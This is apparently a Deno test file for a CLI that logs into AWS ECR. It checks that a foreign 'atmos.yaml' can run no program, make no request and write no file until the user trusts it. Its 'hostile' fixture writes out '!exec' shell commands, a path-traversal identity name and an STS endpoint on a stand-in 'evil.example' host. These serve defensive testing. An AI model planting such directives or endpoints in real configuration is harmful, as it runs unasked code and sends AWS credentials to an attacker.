import { deepStrictEqual, match, ok, strictEqual } from "node:assert/strict";
import { join } from "node:path";
import { DEV, World } from "./world.ts";

/** A server that nobody shall ask, with how often it was. */
function startTrap(): AsyncDisposable & { readonly url: string; requests(): number } {
  let requests = 0;
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, () => {
    requests++;
    return new Response("auth: {realm: fetched}\n");
  });
  return {
    url: `http://127.0.0.1:${server.addr.port}`,
    requests: () => requests,
    [Symbol.asyncDispose]: () => server.shutdown(),
  };
}

/** Everything that a repository of somebody else could try. */
function hostile(canary: string, remote = ""): string {
  return `${remote}auth:
  realm: !exec touch ${canary}-realm; echo acme
  identities:
    user:
      kind: aws/user
      credentials:
        access_key_id: !exec touch ${canary}-key; echo AKIAIOSFODNN7EXAMPLE
        secret_access_key: !exec touch ${canary}-secret; echo canary
    ../../../../escape:
      kind: aws/assume-role
      default: true
      via: {identity: user}
      principal: {assume_role: "arn:aws:iam::${DEV}:role/deploy"}
      spec: {endpoint_url: "https://sts.us-east-1.amazonaws.com.evil.example/"}
  integrations:
    dev/ecr:
      kind: aws/ecr
      via: {identity: ../../../../escape}
      spec: {registry: {account_id: "${DEV}", region: us-east-1}}
env:
  ATMOS_LOGS_LEVEL: !exec touch ${canary}-level; echo Debug
`;
}

const COMMANDS: readonly (readonly string[])[] = [
  ["list"],
  ["login", "--all"],
  ["login", "dev/ecr", "--dry-run"],
  ["logout", "dev/ecr"],
  ["config", "path"],
  ["config", "show"],
  ["config", "explain"],
  ["config", "validate"],
];

Deno.test("a foreign repository causes no process, no request and no file before trust", async () => {
  await using trap = startTrap();
  await using world = await World.create();
  const canary = join(world.sandbox.home, "canary");
  const remote = `import: ["${trap.url}/team.yaml"]\n`;
  // The import is refused where files are read, which is the same for every command.
  for (const [imports, commands] of [["", COMMANDS], [remote, COMMANDS.slice(0, 2)]] as const) {
    await world.sandbox.write("atmos.yaml", hostile(canary, imports));
    for (const args of commands) {
      const { stdout, stderr } = await world.run(args);
      ok(!/canary(?!-)/.test(stdout), stdout);
      deepStrictEqual(await world.sandbox.files(), [], `${args.join(" ")}: ${stderr}`);
    }
  }
  deepStrictEqual([trap.requests(), world.aws.requests.length], [0, 0]);
  deepStrictEqual(await Array.fromAsync(Deno.readDir(world.sandbox.project), ({ name }) => name), [
    "atmos.yaml",
  ]);
});

Deno.test("what needs trust is refused with its place and the command that gives it", async () => {
  await using trap = startTrap();
  await using world = await World.create(hostile("/nowhere/canary"));
  const { code, stdout } = await world.run(["config", "validate"]);
  strictEqual(code, 2);
  match(
    stdout,
    /^atmos\.yaml:2:10: error: .*runs a program.*\[CONFIG_UNTRUSTED\]\n {2}Hint: .*`atmos-ecr trust atmos\.yaml`$/m,
  );
  match(
    stdout,
    /^atmos\.yaml:14:28: error: .*sends AWS requests to .*evil\.example.*\[CONFIG_UNTRUSTED\]$/m,
  );
  const login = await world.run(["login", "dev/ecr"]);
  strictEqual(login.code, 2);
  match(login.stderr, /CONFIG_UNTRUSTED/);
  await world.sandbox.write("atmos.yaml", `import: ["${trap.url}/team.yaml"]\n`);
  const list = await world.run(["list", "-o", "json"]);
  strictEqual(list.code, 2);
  const { error } = JSON.parse(list.stdout);
  deepStrictEqual([error.code, error.position], ["CONFIG_UNTRUSTED", {
    file: "atmos.yaml",
    line: 1,
    column: 10,
  }]);
});

Deno.test("trust shows what a file may do, and applies until the file changes or trust is revoked", async () => {
  await using world = await World.create(`auth:
  identities:
    dev: {kind: aws/ambient, alias: !exec "echo ran"}
`);
  const alias = async (): Promise<unknown> => {
    const { stdout } = await world.run(["config", "show", "-o", "json"]);
    return JSON.parse(stdout).auth.identities.dev.alias;
  };
  strictEqual(await alias(), "!exec ***");
  const trust = await world.run(["trust"]);
  deepStrictEqual([trust.code, trust.stdout], [0, ""]);
  strictEqual(
    trust.stderr,
    `Trusting atmos.yaml allows this:
  atmos.yaml:3:37: runs "echo ran"
Trusted the current content of atmos.yaml
`,
  );
  deepStrictEqual(await world.sandbox.files(), [
    "home/.local/state/atmos/ecr/trust.json",
    "home/.local/state/atmos/ecr/trust.json.lock",
  ]);
  strictEqual(await alias(), "ran");
  await Deno.writeTextFile(join(world.sandbox.project, "atmos.yaml"), "# changed\n", { append: true });
  strictEqual(await alias(), "!exec ***");
  await world.run(["trust", "atmos.yaml"]);
  strictEqual(await alias(), "ran");
  const untrust = await world.run(["untrust", "atmos.yaml", "--output=json"]);
  deepStrictEqual(JSON.parse(untrust.stdout), {
    version: 1,
    files: [{ file: "atmos.yaml", trusted: false, changed: true }],
  });
  strictEqual(await alias(), "!exec ***");
});

Deno.test("trust -o json lists the directives, and --quiet prints nothing", async () => {
  await using world = await World.create(hostile("/nowhere/canary"));
  const { code, stdout, stderr } = await world.run(["trust", "-o", "json"]);
  deepStrictEqual([code, stderr], [0, ""]);
  const { files: [file, ...others] } = JSON.parse(stdout);
  deepStrictEqual(others, []);
  deepStrictEqual([file.file, file.path, file.trusted], [
    "atmos.yaml",
    join(world.sandbox.project, "atmos.yaml"),
    true,
  ]);
  deepStrictEqual(file.directives.map(({ kind }: { kind: string }) => kind), [
    "exec",
    "exec",
    "exec",
    "endpoint",
    "exec",
  ]);
  deepStrictEqual(file.directives[3], {
    kind: "endpoint",
    effect: `sends AWS requests to "https://sts.us-east-1.amazonaws.com.evil.example/"`,
    position: { file: "atmos.yaml", line: 14, column: 28 },
  });
  const quiet = await world.run(["trust", "-q"]);
  deepStrictEqual([quiet.code, quiet.stdout, quiet.stderr], [0, "", ""]);
});

Deno.test("trust finds the configuration files that need it, also behind a remote import", async () => {
  await using world = await World.create("import: [team.yaml, plain.yaml]\nbase_path: .\n");
  await world.sandbox.write("team.yaml", "auth: {realm: !exec echo acme}\n");
  await world.sandbox.write("plain.yaml", "auth: {identities: {dev: {kind: aws/ambient}}}\n");
  const trusted = async (): Promise<string[]> => {
    const { stdout } = await world.run(["trust", "-o", "json"]);
    return JSON.parse(stdout).files.map(({ file }: { file: string }) => file);
  };
  deepStrictEqual(await trusted(), ["team.yaml"]);
  await world.sandbox.write("team.yaml", `import: "https://example.invalid/x.yaml"\n`);
  deepStrictEqual(await trusted(), ["team.yaml"]);
  await world.sandbox.write("team.yaml", "auth: {}\n");
  deepStrictEqual(await trusted(), ["atmos.yaml"]);
});

Deno.test("trust and untrust of a file that is not there exit with 2", async () => {
  await using world = await World.create("");
  for (const args of [["trust"], ["trust", "nowhere.yaml"], ["untrust", "nowhere.yaml"]]) {
    const { code, stdout, stderr } = await world.run(args);
    deepStrictEqual([code, stdout], [2, ""], args.join(" "));
    match(stderr, /CONFIG_NOT_FOUND/);
  }
  await world.sandbox.write("broken.yaml", "a: [");
  match(
    (await world.run(["trust", "broken.yaml"])).stderr,
    /broken\.yaml:1:\d.*\n.*\nCode: {2}CONFIG_SYNTAX/,
  );
  const none = await world.run(["untrust"]);
  deepStrictEqual([none.code, none.stderr], [0, "No file in this configuration was trusted\n"]);
  deepStrictEqual(await world.sandbox.files(), []);
});

Deno.test("trust follows a link to a file under both of its names", async () => {
  await using world = await World.create("auth: {realm: !exec echo acme}\n");
  await Deno.symlink(world.sandbox.project, join(world.sandbox.root, "link"));
  strictEqual((await world.run(["trust", join(world.sandbox.root, "link", "atmos.yaml")])).code, 0);
  const { stdout } = await world.run(["config", "explain", "realm"]);
  match(stdout, /^auth\.realm +acme /m);
  await Deno.remove(join(world.sandbox.root, "link"));
});

Deno.test("a damaged record of trust is an error and never trust", async () => {
  await using world = await World.create("auth: {realm: !exec echo acme}\n");
  await world.run(["trust"]);
  const path = join(world.sandbox.home, ".local/state/atmos/ecr/trust.json");
  await Deno.writeTextFile(path, "{}");
  for (const args of [["config", "validate"], ["trust"], ["untrust"]]) {
    const { code, stdout, stderr } = await world.run(args);
    strictEqual(code, 3, args.join(" "));
    match(stdout + stderr, /trust\.json.*corrupted/);
  }
});

Deno.test("an endpoint in a trusted file that an untrusted one imports names the untrusted one", async () => {
  await using world = await World.create("import: [team.yaml]\n");
  const endpoint = `spec: {endpoint_url: "${world.aws.url}"}\n      principal: {assume_role:`;
  await world.sandbox.write(
    "team.yaml",
    World.ATMOS_YAML.replace("principal: {assume_role:", endpoint),
  );
  const says = async (): Promise<string> => (await world.run(["login", "dev/ecr"])).stderr;
  match(await says(), /and its file is not trusted .*\n.*`atmos-ecr trust team\.yaml`/);
  await world.run(["trust", "team.yaml"]);
  match(
    await says(),
    /and "atmos\.yaml", which leads to its file, is not trusted .*\n.*`atmos-ecr trust atmos\.yaml`/,
  );
  await world.run(["trust", "atmos.yaml"]);
  match(await says(), /✓ Logged in/);
});
